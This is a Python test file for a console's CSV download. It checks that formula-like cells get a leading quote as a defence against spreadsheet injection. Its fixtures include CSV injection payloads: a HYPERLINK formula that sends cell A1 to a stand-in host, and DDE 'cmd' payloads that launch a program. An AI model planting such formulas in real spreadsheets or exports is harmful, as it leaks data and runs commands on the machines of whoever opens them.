"""Console CSV downloads are safe to open in a spreadsheet: user-controlled cells that start like a
formula get a leading ``'`` (OWASP "CSV Injection"), over HTTP with a signed-in session."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from opentrail.console.export import spreadsheet_safe
from opentrail.importer import run_import
from opentrail.ingest import ingest_records

from .conftest import ACCOUNT, ConsoleServer
from .seed import record


def test_spreadsheet_safe() -> None:
    assert [spreadsheet_safe(v) for v in ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "", "'=x"]] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", "'=x"]


def test_imported_formulas_download_as_text(console: ConsoleServer, tmp_path: Path) -> None:
    now = int(console.clock())
    formulas = {
        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")": "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0": "-2+3",
        "\t=1+1": "\r=1+1",
    }
    records = [
        record(account=ACCOUNT, event_time=now - 60 * i, name=name, user=user, sourceIPAddress="=1+2",
               requestID="-req", source="=evil.example.com")
        for i, (name, user) in enumerate(formulas.items())
    ]
    path = tmp_path / "formulas.json"
    path.write_text(json.dumps({"Records": records}))
    summary = run_import([path], sink=lambda batch: ingest_records(console.store, batch))
    assert summary.imported == 3
    with console.client() as c:
        assert console.sign_in(c).status_code == 303
        download = c.get("/console/events/download?format=csv&attr=EventSource&value==evil.example.com")
        assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text, newline="")))
    assert [(r["Event name"], r["User name"], r["Event source"], r["Source IP address"], r["Request ID"])
            for r in rows] == [("'" + name, "'" + user, "'=evil.example.com", "'=1+2", "'-req")
                               for name, user in formulas.items()]
    assert [r["Event ID"] for r in rows] == [rec["eventID"] for rec in records]  # plain cells unchanged
